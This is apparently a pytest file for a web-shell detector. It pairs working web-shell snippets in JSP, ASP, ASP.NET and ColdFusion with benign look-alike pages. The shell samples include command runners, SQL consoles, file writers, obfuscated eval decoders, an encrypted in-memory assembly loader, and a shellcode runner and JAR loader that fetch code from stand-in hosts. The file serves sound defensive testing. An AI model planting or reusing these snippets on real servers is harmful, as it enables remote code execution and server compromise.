"""ASP, ASP.NET, JSP and ColdFusion signals of other.py: request input followed to what it reaches.

Each snippet is written for this test after the technique it names (a file writer, a database console, a
command runner behind a helper function, a decoder feeding Execute ...), beside a benign page that uses the
same API in the way ordinary applications do. Paths and hosts are made up.
"""

from ansible_collections.sitekeeper.website.plugins.module_utils.docroot import analyse, other, php

UPLOADS = analyse.DEFAULT_UPLOAD_DIRS


def signals(source: str) -> dict:
    ev = php.Evidence()
    other.score_other(source.lower(), ev)
    return ev.found


def flagged(name: str, source: str) -> bool:
    verdict = analyse.analyse(name, source.encode(), 10, UPLOADS)
    return bool(verdict and verdict.get("kind"))


# --- a path and a content from the request, through variables, into a file -----------------------------------

JSP_FILE_WRITER = """<%@ page import="java.io.*" %>
<%
String target = request.getParameter("t");
String body = request.getParameter("b");
if (target != null) {
    OutputStream sink = new FileOutputStream(target);
    sink.write(body.getBytes());
    sink.close();
}
%>"""

JSP_UPLOAD_TO_APP_FOLDER = """<%@ page import="java.io.*" %>
<%
String name = request.getParameter("photoName");
String folder = application.getRealPath("/photos");
OutputStream sink = new FileOutputStream(folder + "/" + name);
sink.write(photoBytes);
sink.close();
%>"""


def test_request_path_written_through_a_variable_but_not_an_upload_into_the_apps_folder():
    found = signals(JSP_FILE_WRITER)
    assert found.get("input_to_file_write") == 8
    assert "input_written_to_input_file" in found
    assert flagged("w.jsp", JSP_FILE_WRITER)
    found = signals(JSP_UPLOAD_TO_APP_FOLDER)
    assert "input_to_file_write" not in found
    assert not flagged("upload.jsp", JSP_UPLOAD_TO_APP_FOLDER)


# --- ASP.NET web form: what the visitor typed in text boxes becomes the connection and the query -----------------

ASPX_SQL_CONSOLE = """<%@ Page Language="C#" %>
<script runat="server">
void Run(object sender, EventArgs e) {
    var conn = new SqlConnection(boxConn.Text);
    conn.Open();
    var cmd = new SqlCommand(boxQuery.Text, conn);
    grid.DataSource = cmd.ExecuteReader();
}
</script>
<form runat="server"><asp:TextBox id="boxConn" runat="server"/><asp:TextBox id="boxQuery" runat="server"/>
<asp:Button runat="server" OnClick="Run"/><asp:GridView id="grid" runat="server"/></form>"""

ASPX_SEARCH_PAGE = """<%@ Page Language="C#" %>
<script runat="server">
void Find(object sender, EventArgs e) {
    var conn = new SqlConnection(ConfigurationManager.ConnectionStrings["site"].ConnectionString);
    var cmd = new SqlCommand("SELECT title FROM news WHERE title LIKE @q", conn);
    cmd.Parameters.AddWithValue("@q", boxSearch.Text);
    results.DataSource = cmd.ExecuteReader();
}
</script>
<form runat="server"><asp:TextBox id="boxSearch" runat="server"/><asp:Repeater id="results" runat="server"/></form>"""


def test_text_box_input_as_connection_and_query_but_not_as_a_query_parameter():
    found = signals(ASPX_SQL_CONSOLE)
    assert found.get("input_to_db_connection") == 6
    assert found.get("input_to_sql") == 6
    assert flagged("q.aspx", ASPX_SQL_CONSOLE)
    found = signals(ASPX_SEARCH_PAGE)
    assert "input_to_db_connection" not in found and "input_to_sql" not in found
    assert not flagged("search.aspx", ASPX_SEARCH_PAGE)


# --- a command from the request, passed through a helper function's parameter ---------------------------------

JSP_COMMAND_HELPER = """<%!
String run(String line) throws Exception {
    Process p = Runtime.getRuntime().exec(line);
    return new java.util.Scanner(p.getInputStream()).useDelimiter("\\\\A").next();
}
%>
<%= run(request.getParameter("c")) %>"""

JSP_FIXED_ADMIN_COMMAND = """<%@ page import="java.io.*" %>
<%
String host = request.getParameter("host");
ProcessBuilder pb = new ProcessBuilder("/usr/bin/uptime");
Process p = pb.start();
out.println("Load on " + host + ": " + new BufferedReader(new InputStreamReader(p.getInputStream())).readLine());
%>"""


def test_request_reaches_exec_through_a_function_parameter_but_a_fixed_command_is_no_shell():
    assert signals(JSP_COMMAND_HELPER).get("input_to_command") == 12
    found = signals(JSP_FIXED_ADMIN_COMMAND)
    assert "input_to_command" not in found
    assert not flagged("status.jsp", JSP_FIXED_ADMIN_COMMAND)


def test_vbscript_calls_a_function_as_a_statement_without_brackets_and_its_parameter_carries_the_input():
    # An eval wrapper (the AntSword family's ASP script): Function run(s) Eval s ... run code, the call without ().
    wrapper = '<%Function RunIt(s)\nEval s\nEnd Function%><%code = Request("k")%><%RunIt code%>'
    assert signals(wrapper).get("input_to_code") == 12
    # The same call form handing the input to a function that only shows it.
    shows = '<%Function ShowIt(s)\nResponse.Write Server.HTMLEncode(s)\nEnd Function\nq = Request("q"): ShowIt q%>'
    assert "input_to_code" not in signals(shows) and not flagged("search.asp", shows)


# --- obfuscation: Execute of a local character-arithmetic decoder, decoded byte arrays, reversed strings --------

ASP_SHIFT_DECODER = """<%
Function Unshift(s)
    For i = 1 To Len(s)
        Unshift = Unshift & Chr(Asc(Mid(s, i, 1)) - 1)
    Next
End Function
Execute Unshift("fwbm!sfrvftu)#q#*")
%>"""

ASP_QUOTING_HELPER = """<%
Function Quote(s)
    Quote = Chr(34) & Replace(s, Chr(34), Chr(34) & Chr(34)) & Chr(34)
End Function
Execute Quote("x")
Response.Write Quote(Request("name"))
%>"""


def test_execute_of_a_chr_arithmetic_decoder_but_not_of_a_quoting_helper():
    found = signals(ASP_SHIFT_DECODER)
    assert found.get("execute_of_decoder_output") == 6
    assert flagged("d.asp", ASP_SHIFT_DECODER)
    assert "execute_of_decoder_output" not in signals(ASP_QUOTING_HELPER)


JSP_BYTE_ARRAY_CLASS = """<%
String c = request.getParameter("c");
Class k = Class.forName(new String(new byte[]{106, 97, 118, 97, 46, 108, 97, 110, 103, 46, 82, 117, 110, 116, 105,
    109, 101}));
Object rt = k.getMethod("getRuntime").invoke(null);
%>"""

JSP_BYTE_ARRAY_TEXT = """<%
byte[] greeting = new byte[]{104, 101, 108, 108, 111};
out.print(new String(greeting) + request.getParameter("who"));
%>"""


def test_byte_array_literal_is_decoded_before_scoring():
    found = signals(JSP_BYTE_ARRAY_CLASS)
    assert "jsp_reflective_exec" in found  # "java.lang.Runtime" only exists once the bytes are decoded
    assert "reflection_on_decoded_name" in found
    found = signals(JSP_BYTE_ARRAY_TEXT)
    assert "jsp_reflective_exec" not in found and "reflection_on_decoded_name" not in found


ASP_REVERSED = """<%
Execute StrReverse(")""k""(tseuqer lave")
%>"""

ASP_REVERSED_TITLE = """<%
Response.Write StrReverse("egap ruo ot emoclew")
%>"""


def test_reversed_string_is_turned_round():
    assert signals(ASP_REVERSED).get("asp_input_to_eval") == 12
    assert not flagged("title.asp", ASP_REVERSED_TITLE)


# --- ColdFusion: form fields in file and query tags -------------------------------------------------------------

CFM_FILE_TOOL = """<cfif isDefined("form.p")>
<cffile action="write" file="#form.p#" output="#form.b#">
</cfif>"""

CFM_UPLOAD = """<cfif isDefined("form.doc")>
<cffile action="upload" filefield="doc" destination="#expandPath('./incoming')#" nameconflict="makeunique">
<cfquery name="save" datasource="site">INSERT INTO docs(name) VALUES (<cfqueryparam value="#form.title#">)</cfquery>
</cfif>"""


def test_cfml_form_field_as_file_path_but_not_an_upload_to_a_fixed_folder():
    assert signals(CFM_FILE_TOOL).get("cfm_input_to_file") == 8
    found = signals(CFM_UPLOAD)
    assert "cfm_input_to_file" not in found and "cfm_input_is_query" not in found


# --- look-alikes that used to raise signals of shells ------------------------------------------------------------

JSP_SAVE_BUTTON = """<%@ page contentType="text/html; charset=UTF-8" %>
<script>
function executeSave() { document.forms[0].submit(); }
// end executeSave
</script>
<% String id = request.getParameter("id"); %>"""

ASP_DOWNLOAD = """<%
filename = Request("f")
Response.ContentType = "application/octet-stream"
Set stream = Server.CreateObject("ADODB.Stream")
stream.LoadFromFile Server.MapPath("/files/" & filename)
%>"""


def test_javascript_function_named_execute_is_not_vbscript_execute():
    found = signals(JSP_SAVE_BUTTON)
    assert "asp_dynamic_execute" not in found and "asp_execute_variable" not in found
    assert "asp_dynamic_execute" in signals("<%\nExecute payload\n%>")


def test_download_file_name_is_not_a_process_argument():
    assert "aspx_input_to_process" not in signals(ASP_DOWNLOAD)
    assert "aspx_input_to_process" in signals(
        '<% var psi = new ProcessStartInfo("cmd.exe"); psi.Arguments = "/c " + Request["c"]; %>')



def test_chr_codes_in_vbscript_hex_and_upper_case_are_folded():
    found = signals('<% Set sc = Server.CreateObject("MS" & Chr(&H53) & "cript" & Chr(67) & "ontrol") %>')
    assert "script_control_object" in found
    assert "script_control_object" not in signals('<% Response.Write "Total" & Chr(&H3A) & " " & n %>')


def test_request_collection_get_host_reaches_a_socket_but_a_fixed_host_does_not():
    tunnel = """<%@ Page Language="C#" %>
<script runat="server">
void Page_Load() {
    string host = Request.QueryString.Get("h");
    int port = int.Parse(Request.QueryString.Get("p"));
    var ep = new IPEndPoint(IPAddress.Parse(host), port);
}
</script>"""
    assert signals(tunnel).get("input_to_network") == 6
    fixed = tunnel.replace('IPAddress.Parse(host), port', 'IPAddress.Parse("192.0.2.10"), 25')
    assert "input_to_network" not in signals(fixed)


# --- a file manager: the request chooses the whole path of several kinds of file operation ------------------------

ASP_FILE_BROWSER = """<%
target = Request("path")
If Request("mode") = "read" Then
    Set fso = Server.CreateObject("Scripting.FileSystemObject")
    Set handle = fso.OpenTextFile(target, 1)
    Response.Write Server.HTMLEncode(handle.ReadAll)
Else
    ShowFolder(target)
End If
Sub ShowFolder(folderPath)
    Set fso = Server.CreateObject("Scripting.FileSystemObject")
    For Each item In fso.GetFolder(folderPath).Files
        Response.Write item.Name & "<br>"
    Next
End Sub
%>"""

ASP_ASSET_MANAGER = """<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
base = Server.MapPath("/assets/")
For Each item In fso.GetFolder(base & "\\" & Request("folder")).Files
    Response.Write item.Name & "<br>"
Next
If Request.Form("remove") <> "" Then fso.DeleteFile base & "\\" & Request.Form("remove")
%>"""


def test_request_path_read_and_listed_is_a_file_manager_but_an_asset_folder_is_not():
    found = signals(ASP_FILE_BROWSER)
    assert found.get("request_driven_file_manager") == 4
    assert flagged("list.asp", ASP_FILE_BROWSER)
    assert "request_driven_file_manager" not in signals(ASP_ASSET_MANAGER)
    assert not flagged("assets.asp", ASP_ASSET_MANAGER)


# --- the URL of a server-side HTTP request chosen by the visitor -------------------------------------------------

ASP_REMOTE_READER = """<%
address = Request.Form("address")
Set http = Server.CreateObject("Microsoft.XMLHTTP")
http.Open "GET", ""&address&"", False
http.Send
Response.Write Server.HTMLEncode(http.ResponseText)
%>"""

ASP_CAPTCHA_CHECK = """<%
answer = Request.Form("answer")
Set http = Server.CreateObject("MSXML2.ServerXMLHTTP")
http.Open "GET", "https://captcha.example.org/check?ans=" & Server.URLEncode(answer), False
http.Send
%>"""


def test_request_url_of_an_xmlhttp_request_but_not_input_as_a_query_parameter():
    assert signals(ASP_REMOTE_READER).get("input_to_network") == 6
    assert signals(ASP_CAPTCHA_CHECK).get("input_to_network") == 4
    assert not flagged("captcha.asp", ASP_CAPTCHA_CHECK)


def test_empty_literals_joined_to_a_value_are_the_value_but_doubled_quotes_stay():
    assert other.normalise('x = ""&path&""') == "x = path"
    assert other.normalise('x = "" + path') == "x = path"
    assert other.normalise('s = "<a href=""" & url & """>"') == 's = "<a href=""" & url & """>"'


# --- ASP.NET upload saved under the client's file name, no look at the type ----------------------------------------

ASPX_ANY_FILE_UPLOAD = """<%@ Page Language="C#" %>
<script runat="server">
void Page_Load() {
    if (Request.Files.Count == 1) {
        HttpPostedFile posted = Request.Files[0];
        posted.SaveAs(Path.Combine(Server.MapPath("."), Path.GetFileName(posted.FileName)));
    }
}
</script>"""

ASPX_PHOTO_UPLOAD = """<%@ Page Language="C#" %>
<script runat="server">
void Page_Load() {
    if (Request.Files.Count == 1) {
        HttpPostedFile posted = Request.Files[0];
        string ext = Path.GetExtension(posted.FileName).ToLowerInvariant();
        if (ext != ".jpg" && ext != ".png") return;
        posted.SaveAs(Path.Combine(Server.MapPath("~/photos"), Guid.NewGuid() + ext));
    }
}
</script>"""


def test_upload_saved_under_the_client_name_without_a_type_check_but_not_a_checked_photo_upload():
    assert signals(ASPX_ANY_FILE_UPLOAD).get("unchecked_upload_to_client_name") == 10
    assert flagged("up.aspx", ASPX_ANY_FILE_UPLOAD)
    assert "unchecked_upload_to_client_name" not in signals(ASPX_PHOTO_UPLOAD)
    assert not flagged("photo.aspx", ASPX_PHOTO_UPLOAD)


# --- session 12: a COM object made by its class id, in-memory loaders of a decrypted request body ----------------

# WScript.Shell created by an <object> tag with the class's documented id instead of Server.CreateObject.
ASP_OBJECT_TAG_COMMAND = """<object runat=server id=sh scope=page classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>
<% response.write sh.exec("cmd.exe /c " & request("c")).stdout.readall %>"""
# A media player object (another class id) on a page that reads a request value.
ASP_OBJECT_TAG_PLAYER = """<object runat=server id=player classid="clsid:6BF52A52-394A-11D3-B153-00C04F79FAA6"></object>
<% response.write "<p>Playing " & server.htmlencode(request("title")) & "</p>" %>"""


def test_com_object_made_by_class_id_counts_as_its_progid_but_another_class_does_not():
    assert flagged("tools/run.asp", ASP_OBJECT_TAG_COMMAND)
    assert "asp_shell_object" in signals(ASP_OBJECT_TAG_COMMAND)
    assert not flagged("media/play.asp", ASP_OBJECT_TAG_PLAYER)
    assert "asp_shell_object" not in signals(ASP_OBJECT_TAG_PLAYER)
    # The ProgID takes the class id's place padded to its length: later offsets stay those of the page.
    low = ASP_OBJECT_TAG_COMMAND.lower()
    assert len(other.normalise(low)) == len(low) and "wscript.shell" in other.normalise(low)


# The request body decrypted with a key written in the handler and loaded as an assembly into the application
# domain, then instantiated (the technique of Behinder's and Godzilla's .NET payloads).
ASHX_BODY_LOADER = """<%@ WebHandler Language="C#" Class="H" %>
using System; using System.Web;
public class H : IHttpHandler {
  public void ProcessRequest(HttpContext c) {
    byte[] key = System.Text.Encoding.Default.GetBytes("0123456789abcdef");
    byte[] body = c.Request.BinaryRead(c.Request.ContentLength);
    var aes = new System.Security.Cryptography.RijndaelManaged();
    byte[] code = aes.CreateDecryptor(key, key).TransformFinalBlock(body, 0, body.Length);
    AppDomain.CurrentDomain.Load(code).CreateInstance("P").Equals(c);
  }
  public bool IsReusable { get { return false; } }
}"""
# An API that decrypts its request body (key from configuration) and answers with JSON: no code is loaded.
ASHX_ENCRYPTED_API = """<%@ WebHandler Language="C#" Class="Api" %>
using System; using System.Web;
public class Api : IHttpHandler {
  public void ProcessRequest(HttpContext c) {
    byte[] key = Convert.FromBase64String(System.Configuration.ConfigurationManager.AppSettings["ApiKey"]);
    var aes = System.Security.Cryptography.Aes.Create();
    var stream = new System.Security.Cryptography.CryptoStream(c.Request.InputStream,
        aes.CreateDecryptor(key, key), System.Security.Cryptography.CryptoStreamMode.Read);
    var order = new System.IO.StreamReader(stream).ReadToEnd();
    c.Response.ContentType = "application/json";
    c.Response.Write("{\\"received\\": " + order.Length + "}");
  }
  public bool IsReusable { get { return true; } }
}"""


def test_decrypted_request_body_loaded_as_an_assembly_but_not_a_decrypting_api():
    found = signals(ASHX_BODY_LOADER)
    assert {"aspx_body_decrypted", "aspx_dynamic_assembly"} <= set(found)
    assert flagged("api/h.ashx", ASHX_BODY_LOADER)
    found = signals(ASHX_ENCRYPTED_API)
    assert "aspx_body_decrypted" in found and "aspx_dynamic_assembly" not in found
    assert not flagged("api/orders.ashx", ASHX_ENCRYPTED_API)


# Type and method names hidden in base64 literals handed to the page's own decoding function.
ASPX_OWN_DECODER = """<%@ Page Language="C#" %><script runat="server">
string d(string s) { return System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(s)); }
void Page_Load(object sender, EventArgs e) {
    var t = System.Type.GetType(d("U3lzdGVtLlJlZmxlY3Rpb24uQXNzZW1ibHk="));
    var load = t.GetMethod(d("TG9hZA=="), new System.Type[] { typeof(byte[]) });
}
</script>"""


def cased_signals(source: str) -> dict:
    """signals() with the page's original case too, which base64 literals need."""
    ev = php.Evidence()
    other.score_other(source.lower(), ev, source)
    return ev.found


def test_base64_literals_given_to_the_pages_own_decoder_are_decoded_but_not_without_one():
    assert "aspx_dynamic_assembly" in cased_signals(ASPX_OWN_DECODER)
    # The same literals with no function of the page returning FromBase64String's result: left as they are.
    without = ASPX_OWN_DECODER.replace("{ return System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(s)); }",
                                       "{ return s; }")
    assert "aspx_dynamic_assembly" not in cased_signals(without)
    # A literal that is not base64 of printable text adds nothing.
    assert other._printable_base64("AAECAwQFBgc=") == "" and other._printable_base64("TG9hZA==") == "Load"


# A command from the form run as a PowerShell pipeline, beside an admin page running a fixed script.
ASPX_POWERSHELL_INPUT = """<%@ Page Language="C#" %><script runat="server">
void Page_Load(object sender, EventArgs e) {
    if (Request.Form["q"] != null) {
        var ps = System.Management.Automation.PowerShell.Create();
        ps.AddScript(Request.Form["q"]);
        foreach (var line in ps.Invoke()) { Response.Write(line.ToString() + "<br>"); }
    }
}
</script><form method="post"><input name="q"></form>"""
ASPX_POWERSHELL_FIXED = """<%@ Page Language="C#" %><script runat="server">
void Page_Load(object sender, EventArgs e) {
    int page = int.Parse(Request.QueryString["page"] ?? "1");
    var ps = System.Management.Automation.PowerShell.Create();
    ps.AddCommand("Get-Service").AddParameter("Name", "W3SVC");
    ServiceGrid.DataSource = ps.Invoke(); ServiceGrid.PageIndex = page - 1; ServiceGrid.DataBind();
}
</script>"""
# CreateProcess declared through P/Invoke and given the form's command line.
ASPX_NATIVE_PROCESS = """<%@ Page Language="C#" %><%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
[DllImport("kernel32.dll")]
static extern bool CreateProcess(string app, string line, IntPtr pa, IntPtr ta, bool inherit, uint flags,
    IntPtr env, string dir, ref STARTUPINFO si, out PROCESS_INFORMATION pi);
void Page_Load(object sender, EventArgs e) {
    string line = Request.Form["line"];
    STARTUPINFO si = new STARTUPINFO(); PROCESS_INFORMATION pi;
    CreateProcess(null, line, IntPtr.Zero, IntPtr.Zero, false, 0, IntPtr.Zero, null, ref si, out pi);
}
</script>"""
# A page calling into kernel32 for the free disk space, with a request value for its display.
ASPX_NATIVE_DISK = """<%@ Page Language="C#" %><%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
[DllImport("kernel32.dll")]
static extern bool GetDiskFreeSpaceEx(string dir, out ulong free, out ulong total, out ulong all);
void Page_Load(object sender, EventArgs e) {
    ulong free, total, all;
    GetDiskFreeSpaceEx("C:\\\\", out free, out total, out all);
    Unit.Text = Request.QueryString["unit"] == "gb" ? (free >> 30) + " GB" : (free >> 20) + " MB";
}
</script>"""


def test_command_run_by_powershell_or_createprocess_but_not_a_fixed_script_or_another_native_call():
    assert {"aspx_powershell", "input_to_command"} <= set(signals(ASPX_POWERSHELL_INPUT))
    assert flagged("admin/ps.aspx", ASPX_POWERSHELL_INPUT)
    found = signals(ASPX_POWERSHELL_FIXED)
    assert "aspx_powershell" in found and "input_to_command" not in found
    assert not flagged("admin/services.aspx", ASPX_POWERSHELL_FIXED)
    assert {"aspx_native_process", "input_to_command"} <= set(signals(ASPX_NATIVE_PROCESS))
    assert flagged("tools/run.aspx", ASPX_NATIVE_PROCESS)
    assert "aspx_native_process" not in signals(ASPX_NATIVE_DISK)
    assert not flagged("status/disk.aspx", ASPX_NATIVE_DISK)


# --- JSP documents (XML syntax): the code of a scriptlet is XML character data ---------------------------------

JSPX_RUNNER = """<?xml version="1.0" encoding="UTF-8"?>
<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">
<jsp:scriptlet>
    java.io.InputStream in = %s.getInputStream();
</jsp:scriptlet>
</jsp:root>"""
CALL = 'Runtime.getRuntime().exec(request.getParameter("c"))'
# Each hides the same call as the XML parser undoes it: character references, CDATA sections cutting its words.
HIDDEN_CALLS = ("".join("&#x%x;" % ord(char) for char in CALL),
                "".join("&#%d;" % ord(char) for char in CALL),
                'Run<![CDATA[time.get]]>Run<![CDATA[time]]>().ex<![CDATA[ec(request.get]]>Parameter("c"))',
                CALL.replace('"', "&quot;"))
JSPX_PAGE_WITH_ENTITIES = """<?xml version="1.0" encoding="UTF-8"?>
<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">
<p>%s</p>
<jsp:scriptlet>
    String title = "Tom &amp; Jerry &lt;3";
    if (count &lt; 3) { out.print(title); }
</jsp:scriptlet>
</jsp:root>""" % HIDDEN_CALLS[0]  # text of the page, shown as written: no code


def test_jsp_document_code_is_read_as_the_xml_parser_gives_it():
    for hidden in HIDDEN_CALLS:
        page = JSPX_RUNNER % hidden
        found = php.Evidence()
        other.score_other(page.lower(), found, page)
        assert found.found.get("jsp_input_to_exec") == 12, hidden[:40]
        assert flagged("page.jspx", page), hidden[:40]
    assert other.xml_character_data("a<![CDATA[&#x41;]]>&#x41;&lt;&unknown;") == "a&#x41;A<&unknown;"


def test_entities_outside_jsp_code_and_plain_markup_decode_to_nothing_that_runs():
    found = php.Evidence()
    other.score_other(JSPX_PAGE_WITH_ENTITIES.lower(), found, JSPX_PAGE_WITH_ENTITIES)
    assert "jsp_input_to_exec" not in found.found and "jsp_runtime_exec" not in found.found
    assert not flagged("page.jspx", JSPX_PAGE_WITH_ENTITIES)


# --- Java APIs that run what their input names ------------------------------------------------------------------

JSP_XML_DECODER = """<%@ page import="java.beans.XMLDecoder,java.io.*" %>
<%
String body = request.getParameter("x");
XMLDecoder decoder = new XMLDecoder(new ByteArrayInputStream(body.getBytes()));
Object made = decoder.readObject();
%>"""
JSP_XML_DECODER_OF_OWN_FILE = """<%@ page import="java.beans.XMLDecoder,java.io.*" %>
<%
XMLDecoder decoder = new XMLDecoder(new FileInputStream(application.getRealPath("/WEB-INF/settings.xml")));
Object settings = decoder.readObject();
%>"""
JSP_BEANS_STATEMENT = """<%@ page import="java.beans.Statement" %>
<%
String c = request.getParameter("c");
new Statement(Runtime.getRuntime(), "e" + "xec", new Object[]{c}).execute();
%>"""
JSP_SQL_STATEMENT = """<%@ page import="java.sql.Statement" %>
<%
Statement st = connection.createStatement();
st.executeQuery("select name from books where id = 1");
%>"""
JSP_BCEL = """<%@ page import="com.sun.org.apache.bcel.internal.util.ClassLoader" %>
<%
String code = "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$8dV";
new ClassLoader().loadClass(code).getConstructor(String.class).newInstance(request.getParameter("c"));
%>"""


def shell_and_look_alike(name, signal, weight, shell, look_alike=None):
    """``signal`` weighs ``weight`` in ``shell``, which is flagged; absent from ``look_alike``, which is not."""
    assert signals(shell).get(signal) == weight
    assert flagged(name, shell)
    if look_alike is not None:
        assert signal not in signals(look_alike)
        assert not flagged(name, look_alike)


def test_java_apis_that_run_what_they_read():
    shell_and_look_alike("x.jsp", "input_to_code", 12, JSP_XML_DECODER, JSP_XML_DECODER_OF_OWN_FILE)
    shell_and_look_alike("s.jsp", "jsp_reflective_exec", 8, JSP_BEANS_STATEMENT, JSP_SQL_STATEMENT)
    shell_and_look_alike("b.jsp", "jsp_define_class", 9, JSP_BCEL)


# --- code fetched and run in memory ---------------------------------------------------------------------------

ASPX_SHELLCODE_RUNNER = """<%@ Page Language="C#" %>
<script runat="server">
[System.Runtime.InteropServices.DllImport("kernel32")]
static extern IntPtr VirtualAlloc(IntPtr at, UIntPtr size, Int32 kind, IntPtr protect);
[System.Runtime.InteropServices.DllImport("kernel32")]
static extern IntPtr CreateThread(IntPtr attrs, UIntPtr stack, IntPtr start, IntPtr arg, Int32 flags, ref IntPtr id);
void Page_Load(object s, EventArgs e) {
  byte[] code = new System.Net.WebClient().DownloadData("https://example.invalid/blob");
  IntPtr mem = VirtualAlloc(IntPtr.Zero, (UIntPtr)code.Length, 0x1000, (IntPtr)0x40);
  System.Runtime.InteropServices.Marshal.Copy(code, 0, mem, code.Length);
  IntPtr id = IntPtr.Zero; CreateThread(IntPtr.Zero, UIntPtr.Zero, mem, IntPtr.Zero, 0, ref id);
}
</script>"""
# An admin page that reports memory through the same library, starting no thread.
ASPX_MEMORY_REPORT = """<%@ Page Language="C#" %>
<script runat="server">
[System.Runtime.InteropServices.DllImport("kernel32")]
static extern bool GlobalMemoryStatusEx(ref MEMORYSTATUSEX status);
void Page_Load(object s, EventArgs e) { var m = new MEMORYSTATUSEX(); GlobalMemoryStatusEx(ref m); Label1.Text = "ok"; }
</script>"""
JSP_REMOTE_JAR = """<%@ page import="java.net.*" %>
<%
URL jar = new URL("http://example.invalid/tool.jar");
URLClassLoader loader = new URLClassLoader(new URL[] { jar });
loader.loadClass("Tool").getMethod("main", String[].class).invoke(null, (Object) new String[0]);
%>"""
JSP_LOCAL_PLUGINS = """<%@ page import="java.net.*,java.io.File" %>
<%
File dir = new File(application.getRealPath("/WEB-INF/plugins"));
URLClassLoader loader = new URLClassLoader(new URL[] { dir.toURI().toURL() });
%>"""


def test_shellcode_and_classes_fetched_and_run_in_memory():
    shell_and_look_alike("run.aspx", "aspx_shellcode_runner", 10, ASPX_SHELLCODE_RUNNER, ASPX_MEMORY_REPORT)
    shell_and_look_alike("jar.jsp", "jsp_remote_class_load", 10, JSP_REMOTE_JAR, JSP_LOCAL_PLUGINS)
